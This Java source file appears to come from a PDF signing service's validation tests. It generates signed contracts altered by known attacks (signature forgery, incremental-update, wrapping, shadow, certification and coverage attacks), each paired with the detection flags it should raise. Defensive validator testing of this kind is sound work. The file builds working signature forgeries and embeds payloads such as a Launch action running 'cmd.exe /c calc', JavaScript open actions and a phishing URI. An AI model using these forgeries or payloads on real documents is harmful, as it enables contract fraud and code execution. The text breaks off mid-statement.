package be.paraaf.validation.attacks;

import static be.paraaf.validation.attacks.PdfBytes.ascii;

import java.security.PrivateKey;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.pdfbox.pdmodel.common.PDRectangle;

/**
 * Applies each published class of attack on signed PDFs to paraaf's own signed output. The service signs a
 * handful of base documents once; every attack file is derived from them by byte editing or by an attacker's
 * own PDFBox/BouncyCastle signature. The classes: universal signature forgery (USF), incremental saving (ISA)
 * and signature wrapping (SWA) (Mladenov et al., CCS 2019); shadow hide, replace and hide-and-replace (Mainka,
 * Mladenov, Rohlmann, NDSS 2021); evil-annotation (EAA) and sneaky-signature (SSA) certification attacks
 * (Rohlmann et al., IEEE S&P 2021); coverage anomalies (as pyHanko's difference analysis names them); active
 * content; changes after a B-LTA document time-stamp; XML signature wrapping (XSW) for XAdES.
 */
public final class AttackCorpus {

    /** Signs through paraaf's two-step API with options as in SigningController.PadesOptions. */
    public interface ServiceSigner {
        byte[] sign(byte[] pdf, Map<String, String> options);
    }

    /** Signs an XML document through paraaf's XAdES API (enveloped, B-B). */
    public interface XmlSigner {
        byte[] sign(byte[] xml);
    }

    static final Set<String> CONTENT = Set.of("PAGE_CONTENT_CHANGED", "OBJECTS_CHANGED");

    private final List<Attack> attacks = new ArrayList<>();
    private final ServiceSigner first;
    private final ServiceSigner second;
    private final AttackerSigner attacker;
    private final byte[] sampleContract;
    private final byte[] lease;

    private AttackCorpus(ServiceSigner first, ServiceSigner second, PrivateKey attackerKey,
            List<X509Certificate> attackerChain, byte[] sampleContract, byte[] lease) {
        this.first = first;
        this.second = second;
        this.attacker = new AttackerSigner(attackerKey, attackerChain);
        this.sampleContract = sampleContract;
        this.lease = lease;
    }

    /**
     * The whole corpus: {@code first} and {@code second} sign as two different citizens through the service,
     * the attacker signs with {@code attackerKey} (a certificate the service trusts).
     */
    public static List<Attack> build(ServiceSigner first, ServiceSigner second, XmlSigner xml, PrivateKey attackerKey,
            List<X509Certificate> attackerChain, byte[] sampleContract, byte[] lease) {
        AttackCorpus corpus = new AttackCorpus(first, second, attackerKey, attackerChain, sampleContract, lease);
        corpus.universalSignatureForgery();
        corpus.incrementalSaving();
        corpus.signatureWrapping();
        corpus.shadow();
        corpus.certification();
        corpus.activeContent();
        corpus.afterDocumentTimestamp();
        corpus.coverage();
        if (xml != null) {
            corpus.attacks.addAll(XmlWrapping.attacks(xml));
        }
        return corpus.attacks;
    }

    private void add(String name, String attackClass, String description, byte[] pdf, int signatures,
            Set<String> expected) {
        attacks.add(new Attack(name, attackClass, description, pdf, signatures, expected, "pdf"));
    }

    private byte[] signContract(Map<String, String> options) {
        return first.sign(sampleContract, options);
    }

    // ---------------------------------------------------------------------------------------------------- USF

    private void universalSignatureForgery() {
        byte[] signed = signContract(Map.of("level", "B-B", "fieldName", "tenant-1"));
        Set<String> unreadable = Set.of("SIGNATURE_UNREADABLE", "BYTE_RANGE_ANOMALY", "HASH_MISMATCH");
        record Variant(String name, String key, String value, String what) {
        }
        List<Variant> variants = List.of(
                new Variant("usf-contents-removed", "Contents", null, "/Contents removed"),
                new Variant("usf-contents-empty", "Contents", "<>", "/Contents an empty string"),
                new Variant("usf-contents-null", "Contents", "null", "/Contents null"),
                new Variant("usf-contents-wrong-type", "Contents", "[<3082> 0]", "/Contents an array"),
                new Variant("usf-byterange-removed", "ByteRange", null, "/ByteRange removed"),
                new Variant("usf-byterange-empty", "ByteRange", "[]", "/ByteRange an empty array"),
                new Variant("usf-byterange-null", "ByteRange", "null", "/ByteRange null"),
                new Variant("usf-byterange-zero", "ByteRange", "[0 0 0 0]", "/ByteRange [0 0 0 0]"),
                new Variant("usf-byterange-wrong-type", "ByteRange", "(0 100 200 300)", "/ByteRange a string"));
        for (Variant variant : variants) {
            Revision r = new Revision(signed);
            int signature = Math.toIntExact(r.layout().signatures().get(0).getNumber());
            Map<String, String> change = new HashMap<>();
            change.put(variant.key(), variant.value());
            r.redefine(signature, change);
            forgePage1(r);
            add(variant.name(), "USF", "An update redefines the signature dictionary with " + variant.what()
                    + " and replaces page 1", r.withXref(), 1, unreadable);
        }
        // in place, nothing moves: the CMS hex zeroed (outside the hash) or the byte range zeroed (inside it)
        PdfBytes.ByteRange range = PdfBytes.lastByteRange(signed);
        byte[] zeroed = PdfBytes.patch(signed, (int) range.gapStart() + 1,
                ascii("0".repeat((int) (range.gapEnd() - range.gapStart() - 2))));
        add("usf-contents-zero-filled", "USF", "The /Contents hex is overwritten with zeros in place (the signed"
                + " bytes are untouched)", zeroed, 1, unreadable);
        int end = range.textEnd();
        while (signed[end] == ' ') {
            end++;
        }
        byte[] zeroRange = PdfBytes.patch(signed, range.textStart(),
                PdfBytes.padded("/ByteRange [0 0 0 0]", end - range.textStart()));
        add("usf-byterange-zeroed-in-place", "USF", "The /ByteRange text is overwritten in place with [0 0 0 0]",
                zeroRange, 1, Set.of("BYTE_RANGE_ANOMALY", "HASH_MISMATCH", "SIGNATURE_UNREADABLE"));
    }

    /** Page 1 gets a new content stream in Helvetica saying {@link ShadowDocument#FORGED_CONTENT}. */
    private static void forgePage1(Revision r) {
        int font = r.allocate();
        r.object(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
        int content = r.allocate();
        r.stream(content, "", ShadowDocument.forgedPage());
        int page = Math.toIntExact(r.layout().page(0).getNumber());
        r.redefine(page, Map.of("Contents", content + " 0 R", "Resources", "<< /Font << /FX " + font + " 0 R >> >>"));
    }

    // ---------------------------------------------------------------------------------------------------- ISA

    private void incrementalSaving() {
        byte[] signed = signContract(Map.of("level", "B-B", "fieldName", "tenant-1"));
        Set<String> uncovered = Set.of("REVISION_NOT_COVERED", "PAGE_CONTENT_CHANGED", "OBJECTS_CHANGED");

        Revision content = new Revision(signed);
        forgePage1(content);
        add("isa-page-content-replaced", "ISA", "An incremental update gives page 1 a new content stream",
                content.withXref(), 1, CONTENT);

        Revision sameObject = new Revision(signed);
        sameObject.stream(Math.toIntExact(sameObject.layout().contents().get(0).getNumber()), "",
                "BT /F1 12 Tf 60 780 Td <002B0058> Tj ET");
        add("isa-content-object-redefined", "ISA", "An update redefines page 1's content stream object itself"
                + " (same number, no other object touched)", sameObject.withXref(), 1, CONTENT);

        Revision noXref = new Revision(signed);
        forgePage1(noXref);
        add("isa-update-without-xref", "ISA", "New page-1 objects appended after %%EOF with no xref, trailer or"
                + " startxref (parsers that repair by scanning see them)", noXref.withoutXref(), 1,
                Set.of("DATA_AFTER_LAST_REVISION", "REVISION_NOT_COVERED", "PAGE_CONTENT_CHANGED"));

        Revision trailerOnly = new Revision(signed);
        forgePage1(trailerOnly);
        add("isa-update-trailer-only", "ISA", "New page-1 objects and a trailer, but no cross-reference section"
                + " (startxref names the trailer)", trailerOnly.trailerOnly(), 1,
                Set.of("DATA_AFTER_LAST_REVISION", "XREF_DAMAGED", "REVISION_NOT_COVERED", "PAGE_CONTENT_CHANGED"));

        add("isa-bytes-after-eof", "ISA", "Bytes (a forged content stream) appended after the last %%EOF,"
                + " no xref", PdfBytes.concat(signed, ascii("\n% appended\n99 0 obj\n<< /Length 44 >>\nstream\n"
                + "BT /F1 12 Tf 60 780 Td (EUR 1,00) Tj ET\nendstream\nendobj\n")), 1,
                Set.of("DATA_AFTER_LAST_REVISION", "REVISION_NOT_COVERED"));

        Revision addPage = new Revision(signed);
        int pages = pagesNumber(signed);
        int newPage = addPage.allocate();
        int newContent = addPage.allocate();
        int font = addPage.allocate();
        addPage.object(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        addPage.stream(newContent, "", ShadowDocument.forgedPage());
        addPage.object(newPage, "<< /Type /Page /MediaBox [0 0 595.27566 841.8898] /Parent " + pages + " 0 R"
                + " /Resources << /Font << /FX " + font + " 0 R >> >> /Contents " + newContent + " 0 R >>");
        List<String> kids = new ArrayList<>();
        addPage.layout().pages().forEach(key -> kids.add(PdfBytes.ref(key)));
        addPage.redefine(pages, Map.of("Kids", "[" + newPage + " 0 R " + String.join(" ", kids) + "]",
                "Count", Integer.toString(kids.size() + 1)));
        add("isa-page-added", "ISA", "An update inserts a forged page before page 1", addPage.withXref(), 1,
                Set.of("PAGES_ADDED_OR_REMOVED", "OBJECTS_CHANGED"));

        Revision removePage = new Revision(signed);
        removePage.redefine(pages, Map.of("Kids", "[" + PdfBytes.ref(removePage.layout().page(1)) + "]",
                "Count", "1"));
        add("isa-page-removed", "ISA", "An update removes page 1 from the page tree", removePage.withXref(), 1,
                Set.of("PAGES_ADDED_OR_REMOVED", "OBJECTS_CHANGED"));

        byte[] twice = second.sign(first.sign(lease, Map.of("level", "B-B", "fieldName", "tenant-1")),
                Map.of("level", "B-B", "fieldName", "tenant-2"));
        Revision both = new Revision(twice);
        forgePage1(both);
        add("isa-two-signers-page-content", "ISA", "Lease signed by two tenants; an update replaces page 1",
                both.withXref(), 2, CONTENT);

        // a signature whose byte range stops inside its own trailer, then an update the trailer cannot vouch for
        byte[] attackerSigned = attacker.sign(sampleContract, "tenant-1", null, 0);
        PdfBytes.ByteRange range = PdfBytes.lastByteRange(attackerSigned);
        int trailer = PdfBytes.lastIndexOf(attackerSigned, "trailer");
        long[] shorter = {0, range.gapStart(), range.gapEnd(), trailer + 9 - range.gapEnd()};
        byte[] shortened = attacker.resign(attackerSigned, shorter);
        Revision after = new Revision(shortened);
        forgePage1(after);
        add("isa-byterange-ends-in-trailer", "ISA", "The signature's ByteRange ends inside its trailer (CMS valid"
                + " over that range), and an update follows", after.withXref(), 1,
                Set.of("BYTE_RANGE_ANOMALY", "REVISION_NOT_COVERED", "PAGE_CONTENT_CHANGED"));
    }

    private static int pagesNumber(byte[] pdf) {
        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            return Math.toIntExact(PdfBytes.keyOf(document.getDocumentCatalog().getCOSObject()
                    .getItem(org.apache.pdfbox.cos.COSName.PAGES)).getNumber());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    // ---------------------------------------------------------------------------------------------------- SWA

    private void signatureWrapping() {
        byte[] signed = signContract(Map.of("level", "B-B"));
        PdfBytes.ByteRange range = PdfBytes.lastByteRange(signed);
        byte[] part1 = PdfBytes.range(signed, 0, range.gapStart());
        byte[] gap = PdfBytes.range(signed, range.gapStart(), range.gapEnd());
        byte[] part2 = PdfBytes.range(signed, range.gapEnd(), range.end());
        String gapText = PdfBytes.latin1(gap);
        String hex = gapText.substring(1, gapText.length() - 1).replaceAll("(00)+$", "");
        if (hex.length() % 2 == 1) {
            hex += "0";
        }
        int signatureObject = Math.toIntExact(PdfBytes.layout(signed).signatures().get(0).getNumber());
        int content = Math.toIntExact(PdfBytes.layout(signed).contents().get(0).getNumber());

        // 1. objects smuggled into the unsigned /Contents gap (inside a literal string the dictionary ignores),
        //    then an update that only re-points page 1's content stream there
        String smuggled = content + " 0 obj\n<< /Length 49 >>\nstream\nBT /F1 12 Tf 60 780 Td <002B00580058> Tj ET\n"
                + "\nendstream\nendobj\n";
        smuggled = smuggled.replace("/Length 49", "/Length " + ("BT /F1 12 Tf 60 780 Td <002B00580058> Tj ET\n").length());
        String stuffedGap = "<" + hex + "> /Pad (";
        long smuggledOffset = range.gapStart() + stuffedGap.length();
        stuffedGap += smuggled + ")";
        if (stuffedGap.length() > gap.length) {
            throw new IllegalStateException("gap too small");
        }
        stuffedGap += " ".repeat(gap.length - stuffedGap.length());
        byte[] stuffed = PdfBytes.concat(part1, ascii(stuffedGap), part2);
        Revision repoint = new Revision(stuffed);
        repoint.repoint(content, smuggledOffset);
        add("swa-gap-smuggled-object", "SWA", "Page 1's content stream is smuggled into the unsigned /Contents gap"
                + " (after the CMS, inside a string); an xref-only update points page 1's content there",
                repoint.withXref(), 1, Set.of("BYTE_RANGE_ANOMALY", "PAGE_CONTENT_CHANGED", "OBJECTS_CHANGED"));

        // 2. classic wrapping: the second signed part is moved behind new objects; a redefined signature
        //    dictionary with /ByteRange [0 b c' d] (c' its new place) and the trimmed CMS comes first, so the
        //    hash over the moved bytes still matches; the new cross-reference section lists the moved objects
        add("swa-byterange-moved", "SWA", "The second signed part is moved behind a new signature dictionary"
                + " (same number, ByteRange [0 b c' d], same CMS) and a forged page 1; the hash still matches",
                wrap(signed, range, gap, part1, part2, hex, signatureObject), 1,
                Set.of("BYTE_RANGE_ANOMALY", "PAGE_CONTENT_CHANGED", "OBJECTS_CHANGED", "REVISION_NOT_COVERED"));
    }

    private static byte[] wrap(byte[] signed, PdfBytes.ByteRange range, byte[] gap, byte[] part1, byte[] part2,
            String hex, int signatureObject) {
        Revision probe = new Revision(signed);
        int font = probe.layout().size();
        int forged = font + 1;
        int page = Math.toIntExact(probe.layout().page(0).getNumber());
        long base = range.gapEnd();
        String fontObject = "\n" + font + " 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n";
        String forgedStream = ShadowDocument.forgedPage();
        String forgedObject = forged + " 0 obj\n<< /Length " + forgedStream.length() + " >>\nstream\n" + forgedStream
                + "\nendstream\nendobj\n";
        String pageObject = page + " 0 obj\n" + probe.dictionary(page, Map.of("Contents", forged + " 0 R",
                "Resources", "<< /Font << /FX " + font + " 0 R >> >>")) + "\nendobj\n";
        String sigTemplate = signatureObject + " 0 obj\n" + probe.dictionary(signatureObject,
                Map.of("Contents", "<" + hex + ">", "ByteRange", "[0 " + range.gapStart() + " %1$010d "
                        + range.values()[3] + "]")) + "\nendobj\n";
        // objects of part 2 (the signature revision's other objects), by their offset inside part 2
        Map<Integer, Long> moved = new java.util.TreeMap<>();
        java.util.regex.Matcher objects = java.util.regex.Pattern.compile("(?m)^(\\d+) 0 obj")
                .matcher(PdfBytes.latin1(part2));
        while (objects.find()) {
            int number = Integer.parseInt(objects.group(1));
            if (number != signatureObject && number != page) {
                moved.put(number, (long) objects.start());
            }
        }
        long oldXref = PdfBytes.lastStartXref(signed);
        java.util.function.LongFunction<String> build = movedPart2 -> {
            long forgedOffset = base + fontObject.length();
            long pageOffset = forgedOffset + forgedObject.length();
            long sigOffset = pageOffset + pageObject.length();
            long xrefOffset = sigOffset + String.format(sigTemplate, movedPart2).length();
            StringBuilder xref = new StringBuilder("xref\n");
            Map<Integer, Long> entries = new java.util.TreeMap<>();
            entries.put(font, base + 1);
            entries.put(forged, forgedOffset);
            entries.put(page, pageOffset);
            entries.put(signatureObject, sigOffset);
            moved.forEach((number, offset) -> entries.put(number, movedPart2 + offset));
            entries.forEach((number, offset) -> xref.append(number).append(" 1\n")
                    .append(String.format("%010d 00000 n \n", offset)));
            xref.append("trailer\n<< /Size ").append(forged + 1).append(" /Root ")
                    .append(PdfBytes.ref(probe.layout().root())).append(" /Prev ")
                    .append(String.format("%010d", oldXref - base + movedPart2)).append(" >>\nstartxref\n")
                    .append(String.format("%010d", xrefOffset)).append("\n%%EOF\n");
            return fontObject + forgedObject + pageObject + String.format(sigTemplate, movedPart2) + xref;
        };
        long movedPart2 = base + build.apply(0).length();
        String wrapper = build.apply(movedPart2);
        String xrefAt = wrapper.substring(wrapper.lastIndexOf("startxref\n") + 10, wrapper.lastIndexOf("\n%%EOF"));
        // the file ends with part 2's own startxref (the old offset, now inside the wrapper): a last startxref
        // names the wrapper's section, so every parser reads the attacker's cross-reference first
        return PdfBytes.concat(part1, gap, ascii(wrapper), part2, ascii("startxref\n" + Long.parseLong(xrefAt)
                + "\n%%EOF\n"));
    }

    // ------------------------------------------------------------------------------------------------- shadow

    private void shadow() {
        ShadowDocument shadow = ShadowDocument.prepare(sampleContract);
        byte[] approval = first.sign(shadow.pdf, Map.of("level", "B-B", "fieldName", "tenant-1"));
        byte[] certified = first.sign(shadow.pdf, Map.of("level", "B-B", "fieldName", "tenant-1",
                "certification", "FORM_FILLING_AND_SIGNING"));

        for (boolean isCertified : new boolean[] {false, true}) {
            byte[] signed = isCertified ? certified : approval;
            String suffix = isCertified ? "-certified-p2" : "";
            Set<String> cert = isCertified ? Set.of("CERTIFICATION_FORBIDS_CHANGE") : Set.of();

            Revision overlay = new Revision(signed);
            overlay.stream(shadow.coverXObject, "/Type /XObject /Subtype /Form /BBox [0 0 420 22]", "");
            add("shadow-hide-overlay-xobject" + suffix, "SHADOW", "Hide: the opaque Form XObject drawn over a"
                    + " signed line is redefined empty, revealing '" + ShadowDocument.HIDDEN_UNDER_XOBJECT + "'",
                    overlay.withXref(), 1, union(CONTENT, cert));

            Revision field = new Revision(signed);
            int empty = field.allocate();
            field.stream(empty, "/Type /XObject /Subtype /Form /BBox [0 0 420 22]", "");
            field.redefine(shadow.noteField, Map.of("V", "(zie hieronder)", "AP", "<< /N " + empty + " 0 R >>"));
            add("shadow-hide-form-field" + suffix, "SHADOW", "Hide: a text field whose opaque appearance covered a"
                    + " signed line is filled, its new appearance transparent, revealing '"
                    + ShadowDocument.HIDDEN_UNDER_FIELD + "'", field.withXref(), 1,
                    Set.of("FORM_FIELD_FILLED", "ANNOTATION_CHANGED", "OBJECTS_CHANGED", "ANNOTATION_COVERS_CONTENT"));

            Revision price = new Revision(signed);
            int priceAp = price.allocate();
            price.stream(priceAp, ShadowDocument.fieldAppearanceDictionary(shadow.helvetica),
                    ShadowDocument.fieldAppearance("Huurprijs: EUR 9,50"));
            price.redefine(shadow.priceField, Map.of("V", "(Huurprijs: EUR 9,50)", "AP", "<< /N " + priceAp + " 0 R >>"));
            add("shadow-replace-form-field" + suffix, "SHADOW", "Replace: a prefilled field shown when signing"
                    + " (EUR 950) gets a new value and appearance (EUR 9,50)", price.withXref(), 1,
                    Set.of("FORM_FIELD_CHANGED", "ANNOTATION_CHANGED", "OBJECTS_CHANGED"));

            Revision locked = new Revision(signed);
            int lockedAp = locked.allocate();
            locked.stream(lockedAp, ShadowDocument.fieldAppearanceDictionary(shadow.helvetica),
                    ShadowDocument.fieldAppearance("Voorschot: EUR 0"));
            locked.redefine(shadow.lockedField, Map.of("V", "(Voorschot: EUR 0)", "AP", "<< /N " + lockedAp + " 0 R >>"));
            add("shadow-replace-read-only-field" + suffix, "SHADOW", "Replace: a read-only (Ff 1) prefilled field"
                    + " gets a new value and appearance", locked.withXref(), 1,
                    Set.of("LOCKED_FIELD_CHANGED", "FORM_FIELD_CHANGED", "ANNOTATION_CHANGED", "OBJECTS_CHANGED"));

            Revision remove = new Revision(signed);
            remove.redefine(shadow.page1, Map.of("Annots", "[" + shadow.noteField + " 0 R " + shadow.lockedField
                    + " 0 R " + shadow.priceField + " 0 R]"));
            add("shadow-hide-annotation-removed" + suffix, "SHADOW", "Hide: the opaque square annotation over a"
                    + " signed line is removed from page 1, revealing '" + ShadowDocument.HIDDEN_UNDER_ANNOTATION + "'",
                    remove.withXref(), 1, Set.of("ANNOTATION_REMOVED", "OBJECTS_CHANGED"));

            Revision font = new Revision(signed);
            font.object(shadow.helvetica, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding"
                    + " << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [50 /zero 52 /zero] >> >>");
            add("shadow-replace-font" + suffix, "SHADOW", "Replace: the signed Helvetica font object is redefined"
                    + " with an /Encoding that draws 2 and 4 as 0 (EUR 2.400 reads EUR 0.000)", font.withXref(), 1,
                    union(CONTENT, cert));

            Revision swap = new Revision(signed);
            swap.root(shadow.alternativeCatalog + " 0 R");
            add("shadow-hide-and-replace-root" + suffix, "SHADOW", "Hide-and-replace: an update with no object,"
                    + " only a trailer whose /Root is an unused catalog already inside the signed bytes",
                    swap.withXref(), 1, union(Set.of("PAGE_CONTENT_CHANGED", "OBJECTS_CHANGED",
                            "XREF_POINTS_INTO_SIGNED_BYTES", "PAGES_ADDED_OR_REMOVED"), cert));

            Revision repointContent = new Revision(signed);
            repointContent.repoint(shadow.page1Contents, shadow.deadContentOffset);
            add("shadow-hide-and-replace-xref-content" + suffix, "SHADOW", "Hide-and-replace: an xref-only update"
                    + " points page 1's content object 9 at a dead duplicate '9 0 obj' inside the signed bytes",
                    repointContent.withXref(), 1, union(Set.of("XREF_POINTS_INTO_SIGNED_BYTES",
                            "PAGE_CONTENT_CHANGED", "OBJECTS_CHANGED"), cert));

            if (!isCertified) {
                Revision repointCatalog = new Revision(signed);
                repointCatalog.repoint(shadow.catalog, shadow.deadCatalogOffset);
                add("shadow-hide-and-replace-xref-catalog", "SHADOW", "Hide-and-replace: an xref-only update points"
                        + " the catalog (object 1) at a dead duplicate catalog inside the signed bytes",
                        repointCatalog.withXref(), 1, Set.of("XREF_POINTS_INTO_SIGNED_BYTES", "PAGE_CONTENT_CHANGED",
                                "OBJECTS_CHANGED", "PAGES_ADDED_OR_REMOVED"));
            }
        }
    }

    // ------------------------------------------------------------------------------------- EAA, SSA, DocMDP

    private void certification() {
        byte[] noChanges = signContract(Map.of("level", "B-B", "fieldName", "tenant-1", "certification", "NO_CHANGES"));
        byte[] formFilling = signContract(Map.of("level", "B-B", "fieldName", "tenant-1",
                "certification", "FORM_FILLING_AND_SIGNING"));
        byte[] annotations = signContract(Map.of("level", "B-B", "fieldName", "tenant-1",
                "certification", "FORM_FILLING_SIGNING_AND_ANNOTATIONS"));
        byte[] approval = signContract(Map.of("level", "B-B", "fieldName", "tenant-1"));

        Revision p1Content = new Revision(noChanges);
        forgePage1(p1Content);
        add("cert-p1-page-content-replaced", "CERT", "Certified NO_CHANGES (P=1); an update replaces page 1",
                p1Content.withXref(), 1, Set.of("CERTIFICATION_FORBIDS_CHANGE", "PAGE_CONTENT_CHANGED"));

        add("cert-p1-signature-added", "CERT", "Certified NO_CHANGES (P=1); the attacker signs the empty 'agency'"
                + " field anyway (a trusted key, plain PDFBox)", attacker.sign(noChanges, "agency", null, 0), 2,
                Set.of("CERTIFICATION_FORBIDS_CHANGE", "FORM_FIELD_FILLED"));

        Set<String> evil = Set.of("ANNOTATION_ADDED", "ANNOTATION_COVERS_CONTENT");
        add("eaa-freetext-p3", "EAA", "Certified with annotations allowed (P=3); a FreeText annotation with an"
                + " opaque appearance covers page 1's amounts", freeText(annotations, 0), 1, evil);
        add("eaa-stamp-p3", "EAA", "Certified P=3; a Stamp annotation with an opaque appearance covers page 1",
                stamp(annotations, 0), 1, evil);
        add("eaa-freetext-p2", "EAA", "Certified form filling only (P=2); a FreeText annotation covers page 1",
                freeText(formFilling, 0), 1, union(evil, Set.of("CERTIFICATION_FORBIDS_CHANGE")));
        add("eaa-freetext-p1", "EAA", "Certified NO_CHANGES (P=1); a FreeText annotation covers page 1",
                freeText(noChanges, 0), 1, union(evil, Set.of("CERTIFICATION_FORBIDS_CHANGE")));
        add("eaa-freetext-approval", "EAA", "Approval signature only; a FreeText annotation covers page 1",
                freeText(approval, 0), 1, evil);

        Set<String> sneaky = Set.of("SIGNATURE_FIELD_ADDED", "ANNOTATION_COVERS_CONTENT");
        AttackerSigner.Appearance overPage1 = new AttackerSigner.Appearance(0, new PDRectangle(55, 690, 480, 40),
                "Huurprijs: EUR 1,00 per maand");
        add("ssa-new-field-p2", "SSA", "Certified P=2; a second signature in a new field whose visible appearance"
                + " (opaque) covers page 1's text", attacker.sign(formFilling, "sneaky", overPage1, 0), 2, sneaky);
        add("ssa-new-field-p3", "SSA", "Certified P=3; the same sneaky visible signature over page 1",
                attacker.sign(annotations, "sneaky", overPage1, 0), 2, sneaky);
        add("ssa-existing-field-moved-p2", "SSA", "Certified P=2; the attacker signs the existing 'agency' field,"
                + " moving its widget onto page 1's text with an opaque appearance",
                attacker.sign(formFilling, "agency", overPage1, 0), 2,
                Set.of("ANNOTATION_CHANGED", "ANNOTATION_COVERS_CONTENT", "LOCKED_FIELD_CHANGED"));
        add("cert-second-certification", "CERT", "Certified P=2; the attacker adds a second certification"
                + " signature (P=3) to widen the permissions", attacker.sign(formFilling, "agency", null, 3), 2,
                Set.of("CERTIFICATION_NOT_FIRST"));
        add("cert-after-approval", "CERT", "Approval signature first; the attacker adds a certification signature"
                + " after it", attacker.sign(approval, "agency", null, 1), 2, Set.of("CERTIFICATION_NOT_FIRST"));
    }

    private byte[] freeText(byte[] signed, int pageIndex) {
        return annotate(signed, pageIndex, "/Subtype /FreeText /Contents (Huurprijs: EUR 1,00)"
                + " /DA (/Helv 12 Tf 0 g)");
    }

    private byte[] stamp(byte[] signed, int pageIndex) {
        return annotate(signed, pageIndex, "/Subtype /Stamp /Name /Approved");
    }

    /** An annotation with an opaque white appearance over the top lines of the page, in an update. */
    private static byte[] annotate(byte[] signed, int pageIndex, String entries) {
        Revision r = new Revision(signed);
        int font = r.allocate();
        r.object(font, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        int ap = r.allocate();
        r.stream(ap, "/Type /XObject /Subtype /Form /BBox [0 0 480 120] /Resources << /Font << /Helv " + font
                + " 0 R >> >>", "1 1 1 rg 0 0 480 120 re f BT /Helv 12 Tf 0 g 5 100 Td ("
                + ShadowDocument.FORGED_CONTENT + ") Tj ET");
        int annotation = r.allocate();
        int page = Math.toIntExact(Math.toIntExact(r.layout().page(pageIndex).getNumber()));
        r.object(annotation, "<< /Type /Annot " + entries + " /Rect [55 620 535 740] /F 4 /P " + page
                + " 0 R /AP << /N " + ap + " 0 R >> >>");
        addAnnotation(r, page, annotation);
        return r.withXref();
    }

    private static void addAnnotation(Revision r, int page, int annotation) {
        String annots = annotsOf(r, page);
        r.redefine(page, Map.of("Annots", "[" + annots + annotation + " 0 R]"));
    }

    private static String annotsOf(Revision r, int page) {
        String dictionary = r.dictionary(page, Map.of());
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("/Annots \\[([^\\]]*)]").matcher(dictionary);
        return m.find() ? m.group(1) + " " : "";
    }

    // ------------------------------------------------------------------------------------------ active content

    private void activeContent() {
        byte[] signed = signContract(Map.of("level", "B-B", "fieldName", "tenant-1"));
        Set<String> active = Set.of("ACTIVE_CONTENT_ADDED");
        Revision openAction = new Revision(signed);
        openAction.redefine(Math.toIntExact(openAction.layout().root().getNumber()), Map.of("OpenAction",
                "<< /S /JavaScript /JS (app.alert\\('Dit document is geldig ondertekend.'\\);) >>"));
        add("active-openaction-javascript", "ACTIVE", "An update adds a JavaScript /OpenAction to the catalog",
                openAction.withXref(), 1, active);

        Revision names = new Revision(signed);
        int js = names.allocate();
        names.object(js, "<< /S /JavaScript /JS (this.getField\\('tenant-1'\\);) >>");
        names.redefine(Math.toIntExact(names.layout().root().getNumber()), Map.of("Names",
                "<< /JavaScript << /Names [(paraaf) " + js + " 0 R] >> >>"));
        add("active-names-javascript", "ACTIVE", "An update adds a document-level JavaScript (/Names /JavaScript)",
                names.withXref(), 1, active);

        byte[] annotations = signContract(Map.of("level", "B-B", "fieldName", "tenant-1",
                "certification", "FORM_FILLING_SIGNING_AND_ANNOTATIONS"));
        Revision link = new Revision(annotations);
        int annotation = link.allocate();
        int page = Math.toIntExact(link.layout().page(0).getNumber());
        link.object(annotation, "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /P " + page
                + " 0 R /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>");
        addAnnotation(link, page, annotation);
        add("active-launch-link-p3", "ACTIVE", "Certified P=3 (annotations allowed); a page-size Link annotation"
                + " with a Launch action", link.withXref(), 1, union(active, Set.of("ANNOTATION_ADDED")));

        Revision pageAction = new Revision(signed);
        int page1 = Math.toIntExact(pageAction.layout().page(0).getNumber());
        pageAction.redefine(page1, Map.of("AA", "<< /O << /S /URI /URI (https://paraaf.example/phish) >> >>"));
        add("active-page-open-action", "ACTIVE", "An update adds an open action (/AA /O, URI) to page 1",
                pageAction.withXref(), 1, union(active, Set.of("OBJECTS_CHANGED")));
    }

    // ---------------------------------------------------------------------------------------------- B-LTA

    private void afterDocumentTimestamp() {
        byte[] lta = signContract(Map.of("level", "B-LTA", "fieldName", "tenant-1"));
        add("lta-overlay-annotation-after-timestamp", "LTA", "B-LTA; after the document time-stamp an update adds"
                + " an opaque FreeText annotation over page 1", freeText(lta, 0), 1,
                Set.of("ANNOTATION_ADDED", "ANNOTATION_COVERS_CONTENT", "REVISION_NOT_COVERED"));

        Revision content = new Revision(lta);
        forgePage1(content);
        add("lta-page-content-after-timestamp", "LTA", "B-LTA; after the document time-stamp an update replaces"
                + " page 1", content.withXref(), 1, union(CONTENT, Set.of("REVISION_NOT_COVERED")));

        Revision dss = new Revision(lta);
        int stream = dss.allocate();
        dss.stream(stream, "", "0");
        dss.redefine(Math.toIntExact(dss.layout().root().getNumber()), Map.of("DSS", "<< /Certs [" + stream + " 0 R] >>"));
        forgePage1(dss);
        add("lta-fake-dss-update-with-content", "LTA", "B-LTA; an update that looks like validation data (/DSS)"
                + " also replaces page 1", dss.withXref(), 1, union(CONTENT, Set.of("REVISION_NOT_COVERED")));
    }

    // ------------------------------------------------------------------------------------------- coverage

    private void coverage() {
        byte[] signed = signContract(Map.of("level", "B-B", "fieldName", "tenant-1"));
        PdfBytes.ByteRange range = PdfBytes.lastByteRange(signed);
        // a byte range that leaves a hole before the gap: the attacker-signed file covers [0, b-10) only
        byte[] attackerSigned = attacker.sign(sampleContract, "tenant-1", null, 0);
        PdfBytes.ByteRange own = PdfBytes.lastByteRange(attackerSigned);
        long[] hole = {0, own.gapStart() - 40, own.gapEnd(), own.values()[3]};
        add("coverage-hole-before-contents", "COVERAGE", "The signed ranges leave 40 unsigned bytes before"
                + " /Contents (CMS valid over the ranges)", attacker.resign(attackerSigned, hole), 1,
                Set.of("BYTE_RANGE_ANOMALY"));
        long[] overlap = {0, own.gapStart(), own.gapStart(), own.end() - own.gapStart()};
        add("coverage-overlapping-ranges", "COVERAGE", "The second range starts at the gap, so the /Contents"
